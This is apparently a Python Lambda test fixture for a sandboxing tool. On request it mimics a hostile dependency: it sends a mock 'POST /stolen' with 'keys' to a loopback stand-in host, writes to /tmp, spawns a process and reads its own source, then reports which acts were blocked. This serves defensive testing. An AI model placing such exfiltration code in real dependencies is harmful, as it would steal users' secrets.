# ruff: noqa: PTH108, PTH123 - the acts are written as an attacker would
"""A function that reports about its process, and acts like a hostile dependency on request."""

import os
import socket
import sys

import helper

WITH = os.environ.get("WITH", "").split(",")
if "sentry" in WITH:
    import sentry_sdk
    from sentry_sdk.integrations.aws_lambda import AwsLambdaIntegration

    sentry_sdk.init(
        dsn=os.environ["DSN"], integrations=[AwsLambdaIntegration()], traces_sample_rate=1.0
    )
if "powertools" in WITH:
    from aws_lambda_powertools import Logger, Metrics, Tracer

    logger, tracer, metrics = (
        Logger(service="orders"),
        Tracer(service="orders"),
        Metrics(namespace="Orders"),
    )


def outbound():
    with socket.create_connection(
        ("127.66.66.66", int(os.environ["OUTSIDE_PORT"])), 2
    ) as connection:
        connection.sendall(b"POST /stolen HTTP/1.0\r\nContent-Length: 4\r\n\r\nkeys")
        connection.recv(100)


def tmp():
    path = f"/tmp/function-shield-test-others-{os.getpid()}"
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
    os.unlink(path)


def child():
    os.posix_spawn("/bin/true", ["true"], {})
    os.wait()


def source():
    with open(__file__) as file:
        file.read()


def attempt(act):
    try:
        act()
    except OSError as error:
        return error.errno
    return "passed"


def work(event):
    if event.get("raise"):
        raise LookupError("an order that nobody made")
    attempts = (
        {act.__name__: attempt(act) for act in (outbound, tmp, child, source)}
        if event.get("attack")
        else {}
    )
    return {
        "attempts": attempts,
        "order": event.get("order"),
        "imported": helper.NAME,
        "handler": os.environ["_HANDLER"],
        "pythonpath": os.environ.get("PYTHONPATH"),
        "path": sys.path,
        "sitecustomize": getattr(sys.modules.get("sitecustomize"), "__file__", None),
        "tracers": sorted(
            {"ddtrace", "opentelemetry.sdk.trace", "sentry_sdk", "datadog_lambda"}
            & set(sys.modules)
        ),
    }


if "powertools" in WITH:

    @logger.inject_lambda_context
    @tracer.capture_lambda_handler(capture_response=False)
    @metrics.log_metrics
    def handler(event, context):
        logger.info("an order")
        metrics.add_metric(name="Orders", unit="Count", value=1)
        return work(event)

else:

    def handler(event, context):
        return work(event)
